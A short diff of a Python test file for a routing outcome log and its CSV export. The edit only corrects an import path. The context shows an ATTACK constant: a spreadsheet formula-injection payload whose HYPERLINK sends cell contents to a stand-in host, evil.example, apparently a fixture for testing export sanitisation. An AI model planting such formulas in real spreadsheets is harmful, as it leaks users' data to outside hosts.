@@ -13,7 +13,7 @@ import pytest
 
 from routing.learning.outcome_log import OutcomeLog, export_routerbench_csv
 from tests.app_harness import serve_app
-from tests.test_ratings_scope import _file_text, _queue_call
+from tests.routing.learning.test_ratings_scope import _file_text, _queue_call
 
 ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'
 
